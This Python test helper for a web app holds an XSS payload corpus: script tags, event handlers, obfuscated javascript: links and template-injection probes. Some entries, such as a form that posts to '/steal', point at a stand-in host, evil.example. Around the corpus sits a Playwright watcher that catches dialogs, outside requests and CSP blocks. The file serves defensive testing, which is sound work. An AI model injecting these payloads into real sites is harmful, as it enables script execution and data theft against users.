"""Hostile text for the web app's pages, and a watch on the browser that catches it running.

Put CORPUS (or CORPUS_TEXT, all of it in one string) through every place a page shows text
the model, a web page, a file, a group member or a Dream run wrote; then `watch.assert_clean()`:
no dialog opened, no request left for another host, nothing the CSP had to block (text that
became markup, stopped only by the policy, is a bug too). A test also checks the words are
shown as text (`{{7*7}}` is not 49).

    context = browser.new_context()
    page = context.new_page()
    watched = watch(context, page)
    ...  # the corpus into a reply, a memory line, a file name
    watched.assert_clean()
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Page, Route

EVIL = "http://evil.example"  # never resolved: the watch aborts every request for it

CORPUS: list[str] = [
    # Script and event handlers, in HTML and SVG.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    # javascript: and data: links, as Markdown and as HTML, in the spellings that slip past
    # a naive check.
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    # Breaking out of an attribute or a quoted string.
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Template injection: shown as typed, never evaluated (49 would be a bug).
    "{{7*7}}",
    "${7*7} #{7*7}",
    # Frames, style and forms that reach or send elsewhere.
    f'<iframe src="{EVIL}/frame"></iframe>',
    f"<style>body{{background:url({EVIL}/style)}}</style>",
    f'<link rel="stylesheet" href="{EVIL}/sheet.css">',
    f'<form action="{EVIL}/steal"><input name="q"><button>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<img src="{EVIL}/x.png">',
    f"![x]({EVIL}/markdown.png)",
    f'<div style="background:url({EVIL}/css)">x</div>',
    f"background: url({EVIL}/bare-css)",
]
CORPUS_TEXT = "\n\n".join(CORPUS)
LOOPBACK = frozenset({"127.0.0.1", "localhost", "::1"})


@dataclass
class Watch:
    """What the browser did that hostile text must never make it do."""

    dialogs: list[str] = field(default_factory=list)  # "alert: 1"
    outside: list[str] = field(default_factory=list)  # URLs of requests to other hosts
    blocked: list[str] = field(default_factory=list)  # the CSP's console reports

    def assert_clean(self) -> None:
        assert not self.dialogs, f"a dialog opened: {self.dialogs}"
        assert not self.outside, f"a request left for another host: {self.outside}"
        assert not self.blocked, f"the CSP blocked something the page made: {self.blocked}"


def watch(context: BrowserContext, page: Page) -> Watch:
    """Record (and dismiss) every dialog on `page` and on any other page of its context (a
    popup it opens), abort and record every request of the context to a host other than
    loopback, record the CSP's refusals."""
    watched = Watch()

    def on_dialog(dialog: Dialog) -> None:
        watched.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            watched.blocked.append(message.text)

    def route(request: Route) -> None:
        url = request.request.url
        parts = urlsplit(url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname not in LOOPBACK:
            watched.outside.append(url)
            request.abort("blockedbyclient")
        else:
            request.continue_()

    # On the context, not each page: a popup's dialog can come before a listener added to
    # it when it opens could be.
    context.on("dialog", on_dialog)
    context.on("console", on_console)
    context.route("**/*", route)
    return watched
